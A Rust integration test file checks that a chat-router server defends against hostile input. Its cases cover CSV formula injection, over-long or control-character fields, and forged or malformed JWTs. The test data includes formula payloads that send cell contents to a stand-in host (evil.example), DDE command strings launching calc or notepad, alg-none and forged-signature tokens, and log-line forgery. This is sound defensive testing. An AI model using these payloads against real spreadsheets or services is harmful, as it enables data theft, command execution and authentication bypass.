//! Attacks on what leaves the router, end to end against the real binary (SPEC 8 "what leaves
//! the system is safe for its reader"; issue 9 items 3, 5, 9). Each test makes the hostile
//! request, then proves that nothing changed and nothing leaked:
//! - CSV export: cells a spreadsheet would run as formulas are neutralised; JSON keeps them raw;
//! - free-text limits: over-long or control-character `name`, `subject`, `supervisor_comment`
//!   are refused (`too_large`, `bad_request`) over HTTP inbound, PATCH and the operator socket;
//! - tokens: forged, malformed, absurdly long-lived and not-yet-valid JWTs get 401 with safe
//!   words (no library text) over HTTP and at the socket upgrade, the cause going to the log
//!   as an escaped field.

// Tests panic on failure by design.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use awc::http::StatusCode;
use common::*;
use serde_json::{json, Value};

/// Words of jsonwebtoken, serde, SQLite or actix that must never reach a client.
const LIBRARY_WORDS: [&str; 14] = [
    "InvalidSignature",
    "InvalidToken",
    "InvalidAlgorithm",
    "ExpiredSignature",
    "ImmatureSignature",
    "Base64",
    "base64",
    "JSON error",
    "unknown variant",
    "Error(",
    "sqlite",
    "Mailbox",
    "mallory",
    "FORGED",
];

fn sam() -> String {
    token("sam", "supervisor")
}

fn code(body: &Value) -> &str {
    body["error"]["code"].as_str().unwrap_or_default()
}

fn now() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
}

/// A JWT with any claims, signed HS256 with `secret`.
fn signed(secret: &str, claims: &Value) -> String {
    use jsonwebtoken::{encode, Algorithm, EncodingKey, Header};
    encode(&Header::new(Algorithm::HS256), claims, &EncodingKey::from_secret(secret.as_bytes())).unwrap()
}

/// Unpadded base64url, as JWT segments are.
fn b64(bytes: &[u8]) -> String {
    base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, bytes)
}

/// Base setup with dialog values that themselves start like formulas (configured by an admin,
/// still free text in the export).
fn config() -> String {
    config_with(|t| {
        set(t, "dialogs.request_types", toml::Value::Array(vec!["support".into(), "-refund".into()]));
        set(t, "dialogs.reasons", toml::Value::Array(vec!["@late".into(), "broken".into()]));
        set(t, "dialogs.components", toml::Value::Array(vec!["+checkout".into()]));
    })
}

/// The CSV rows as maps from column to cell.
fn csv_rows(text: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    reader
        .records()
        .map(|r| header.iter().cloned().zip(r.unwrap().iter().map(str::to_owned)).collect())
        .collect()
}

#[actix_web::test]
async fn formulas_planted_in_free_text_are_neutralised_in_the_csv_and_kept_raw_in_json() {
    let server = TestServer::start(&config());
    let name = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")"#;
    let page_url = "@SUM(1+1)*cmd|' /C calc'!A0";
    let client_id = "-2+3";
    let query = format!(
        "channel=web&client_id={}&name={}&page_url={}",
        encode(client_id),
        encode(name),
        encode(page_url)
    );
    let mut client = client_query(&server, &query).await;
    let ack = client.request(json!({"type": "send", "text": "=1+1 hello", "client_msg_id": "m1"})).await;
    assert_eq!(ack["type"], "ack", "{ack}");
    let id = ack["chat"].as_u64().unwrap();

    let subject = "=WEBSERVICE(\"http://evil.example/\"&A2)";
    let comment = "+cmd|' /C notepad'!A0";
    let patch = json!({
        "subject": subject,
        "supervisor_comment": comment,
        "request_type": "-refund",
        "reasons": ["@late", "broken"],
        "components": ["+checkout"],
    });
    let (status, after) = patch_json(&server, &format!("/api/v1/chats/{id}"), &sam(), &patch).await;
    assert_eq!(status, StatusCode::OK, "{after}");

    let (status, text) = get_text(&server, "/api/v1/chats.csv", &sam()).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let rows = csv_rows(&text);
    assert_eq!(rows.len(), 1, "{text}");
    let row = &rows[0];
    assert_eq!(row["client_name"], format!("'{name}"));
    assert_eq!(row["page_url"], format!("'{page_url}"));
    assert_eq!(row["client_id"], format!("'{client_id}"));
    assert_eq!(row["subject"], format!("'{subject}"));
    assert_eq!(row["supervisor_comment"], format!("'{comment}"));
    assert_eq!(row["request_type"], "'-refund");
    assert_eq!(row["reasons"], "'@late;broken");
    assert_eq!(row["components"], "'+checkout");
    assert_eq!(row["conversation"], format!("web:{client_id}"), "starts with the channel: nothing to run");
    assert_eq!(row["id"], id.to_string(), "numbers are written as they are");
    for (column, cell) in row {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{column} = {cell:?} would run");
    }

    // The JSON API is not a spreadsheet: it keeps what was written.
    let (_, chat) = get(&server, &format!("/api/v1/chats/{id}"), &sam()).await;
    assert_eq!(chat["client"]["name"], name);
    assert_eq!(chat["page_url"], page_url);
    assert_eq!(chat["subject"], subject);
    assert_eq!(chat["supervisor_comment"], comment);
    assert_eq!(chat["reasons"], json!(["@late", "broken"]));
}

#[actix_web::test]
async fn an_over_long_or_control_character_subject_or_comment_is_refused_and_changes_nothing() {
    let server = TestServer::start(&config());
    let ack = inbound(&server, "mail", json!({"client_id": "c1", "name": "Ann", "text": "hello"})).await;
    let id = ack["chat"].as_u64().unwrap();
    let path = format!("/api/v1/chats/{id}");
    let (_, before) = get(&server, &path, &sam()).await;

    let attacks = [
        (json!({"subject": "s".repeat(501)}), StatusCode::PAYLOAD_TOO_LARGE, "too_large"),
        (
            json!({"subject": "ü".repeat(501), "status": "on_hold"}),
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large",
        ),
        (json!({"subject": "Refund\r\nX-Injected: 1"}), StatusCode::BAD_REQUEST, "bad_request"),
        (json!({"subject": "Refund\u{202E}fdp.exe"}), StatusCode::BAD_REQUEST, "bad_request"),
        (json!({"supervisor_comment": "c".repeat(4001)}), StatusCode::PAYLOAD_TOO_LARGE, "too_large"),
        (
            json!({"supervisor_comment": "ok\u{1b}[2J", "supervisor_rating": 4, "status": "on_hold"}),
            StatusCode::BAD_REQUEST,
            "bad_request",
        ),
    ];
    for (body, status, expected) in attacks {
        let (got, answer) = patch_json(&server, &path, &sam(), &body).await;
        assert_eq!((got, code(&answer)), (status, expected), "{body}: {answer}");
    }
    let (_, after) = get(&server, &path, &sam()).await;
    assert_eq!(after, before, "nothing changed");

    // Operators' socket: the same limits on update_chat.
    let mut sam_ws = agent(&server, "sam").await;
    for (subject, expected) in [("s".repeat(501), "too_large"), ("line\nbreak".to_string(), "bad_request")] {
        let answer = sam_ws.request(json!({"type": "update_chat", "chat": id, "subject": subject})).await;
        assert_eq!(
            (answer["type"].as_str(), answer["code"].as_str()),
            (Some("error"), Some(expected)),
            "{answer}"
        );
    }
    let (_, after) = get(&server, &path, &sam()).await;
    assert_eq!(after, before, "nothing changed");

    // At the limits, and a comment keeping its line breaks, everything is accepted.
    let ok =
        json!({"subject": "ü".repeat(500), "supervisor_comment": format!("{}\n\tend", "c".repeat(3995))});
    let (status, changed) = patch_json(&server, &path, &sam(), &ok).await;
    assert_eq!(status, StatusCode::OK, "{changed}");
    assert_eq!(changed["supervisor_comment"].as_str().unwrap().chars().count(), 4000);
    let answer = sam_ws.request(json!({"type": "update_chat", "chat": id, "subject": "Parcel late"})).await;
    assert_eq!(answer["type"], "ack", "{answer}");
}

#[actix_web::test]
async fn an_inbound_client_name_over_its_limit_or_with_control_characters_creates_nothing() {
    let server = TestServer::start(&config());
    let path = "/api/v1/channels/mail/messages";
    let mail = server.channel_token("mail");
    let attacks = [
        ("n".repeat(201), StatusCode::PAYLOAD_TOO_LARGE, "too_large"),
        ("Ann\r\n2024-01-01T00:00:00Z  INFO forged".to_string(), StatusCode::BAD_REQUEST, "bad_request"),
        ("Ann\u{0}".to_string(), StatusCode::BAD_REQUEST, "bad_request"),
    ];
    for (name, status, expected) in attacks {
        let body = json!({"client_id": "c1", "name": name, "text": "hello"});
        let (got, answer) = post_json(&server, path, &mail, &body).await;
        assert_eq!((got, code(&answer)), (status, expected), "{name:?}: {answer}");
    }
    let (_, list) = get(&server, "/api/v1/chats", &sam()).await;
    assert_eq!(list["items"], json!([]), "no chat was created");

    let ack =
        inbound(&server, "mail", json!({"client_id": "c1", "name": "Ä".repeat(200), "text": "hi"})).await;
    let (_, chat) = get(&server, &format!("/api/v1/chats/{}", ack["chat"]), &sam()).await;
    assert_eq!(chat["client"]["name"].as_str().unwrap().chars().count(), 200, "200 characters are fine");
}

#[actix_web::test]
async fn forged_malformed_and_abusive_tokens_get_401_with_safe_words_over_http_and_at_the_upgrade() {
    let server = TestServer::start_process(&base_config());
    let t = now();
    let claims = |sub: &str, role: &str, exp: u64| json!({"sub": sub, "role": role, "exp": exp});
    let alg_none = format!(
        "{}.{}.",
        b64(br#"{"alg":"none","typ":"JWT"}"#),
        b64(claims("sam", "supervisor", t + 60).to_string().as_bytes())
    );
    let attacks: Vec<(&str, String)> = vec![
        ("garbage", "garbage".into()),
        ("three bad segments", "a.b.c".into()),
        ("not base64", "!!!.???.***".into()),
        (
            "forged signature",
            signed("attacker-guess-0123456789abcdef-0123456789", &claims("sam", "supervisor", t + 60)),
        ),
        ("alg none", alg_none),
        ("exp u64::MAX", signed(SECRET, &json!({"sub": "sam", "role": "supervisor", "exp": u64::MAX}))),
        ("exp 30 days out", signed(SECRET, &claims("sam", "supervisor", t + 30 * 86_400))),
        ("expired", signed(SECRET, &claims("sam", "supervisor", t - 1))),
        (
            "not valid yet",
            signed(SECRET, &json!({"sub": "sam", "role": "supervisor", "exp": t + 600, "nbf": t + 300})),
        ),
        ("unknown operator", signed(SECRET, &claims("mallory", "admin", t + 60))),
        ("wrong role", signed(SECRET, &claims("alice", "admin", t + 60))),
        ("no exp", signed(SECRET, &json!({"sub": "sam", "role": "supervisor"}))),
    ];
    for (what, bad) in &attacks {
        for path in ["/api/v1/chats", "/api/v1/chats.csv", "/api/v1/operators"] {
            let raw = send(&server, awc::http::Method::GET, path, bad, Body::None).await;
            assert_eq!(raw.status, StatusCode::UNAUTHORIZED, "{what} {path}: {}", raw.body);
            let body = raw.json();
            assert_eq!(code(&body), "unauthorized", "{what}");
            assert_eq!(body["error"]["message"], "invalid or expired token", "{what}");
            for word in LIBRARY_WORDS {
                assert!(!raw.body.contains(word), "{what} {path}: {word:?} leaked in {}", raw.body);
            }
        }
        // The socket: refused before the upgrade; the same body for a plain GET of the endpoint.
        let url = format!("{}/ws/agent?token={}", server.ws_url, encode(bad));
        assert_eq!(upgrade_status(&url).await, Some(401), "{what}");
        let raw = send(
            &server,
            awc::http::Method::GET,
            &format!("/ws/agent?token={}", encode(bad)),
            "",
            Body::None,
        )
        .await;
        assert_eq!(raw.status, StatusCode::UNAUTHORIZED, "{what}");
        assert_eq!(raw.json()["error"]["message"], "invalid or expired token", "{what}: {}", raw.body);
    }
    let raw = send(&server, awc::http::Method::GET, "/api/v1/chats", "", Body::None).await;
    assert_eq!(raw.json()["error"]["message"], "a bearer token is required");

    // The control: a proper token within the cap and past its nbf works, over HTTP and the socket.
    let good = signed(SECRET, &json!({"sub": "sam", "role": "supervisor", "exp": t + 600, "nbf": t - 5}));
    assert_eq!(get(&server, "/api/v1/chats", &good).await.0, StatusCode::OK);
    assert_eq!(upgrade_status(&format!("{}/ws/agent?token={good}", server.ws_url)).await, None);
    // The causes are in the log, for whoever runs the server.
    let log = server.log();
    assert!(log.contains("operator token refused"), "{log}");
    assert!(log.contains("TooLongLived") && log.contains("NotYetValid") && log.contains("mallory"), "{log}");
}

#[actix_web::test]
async fn a_shorter_max_token_ttl_refuses_tokens_valid_for_longer() {
    let server = TestServer::start(&config_with(|t| set(t, "auth.max_token_ttl", 600.into())));
    let t = now();
    let hour = signed(SECRET, &json!({"sub": "alice", "role": "operator", "exp": t + 3600}));
    let (status, body) = get(&server, "/api/v1/chats", &hour).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"), "{body}");
    assert_eq!(upgrade_status(&format!("{}/ws/agent?token={hour}", server.ws_url)).await, Some(401));
    let ten_minutes = signed(SECRET, &json!({"sub": "alice", "role": "operator", "exp": t + 590}));
    assert_eq!(get(&server, "/api/v1/chats", &ten_minutes).await.0, StatusCode::OK);
}

#[actix_web::test]
async fn a_line_break_smuggled_into_a_token_header_cannot_forge_a_log_line() {
    let server = TestServer::start_process(&base_config());
    // The header is parsed before any signature check, and the library's error echoes it.
    let header = br#"{"alg":"HS256\n1970-01-01T00:00:00Z  INFO FORGED: admin logged in","typ":"JWT"}"#;
    let forged = format!("{}.{}.{}", b64(header), b64(br#"{"sub":"sam"}"#), b64(b"sig"));
    let (status, body) = get(&server, "/api/v1/chats", &forged).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    assert_eq!(body["error"]["message"], "invalid or expired token");
    let log = server.log();
    let refused = log.lines().find(|l| l.contains("operator token refused")).expect("the refusal is logged");
    assert!(
        refused.contains(r"\n1970-01-01T00:00:00Z  INFO FORGED"),
        "the cause, escaped, in one line: {refused}"
    );
    assert!(!log.lines().any(|l| l.contains("FORGED") && !l.contains("operator token refused")), "{log}");
}
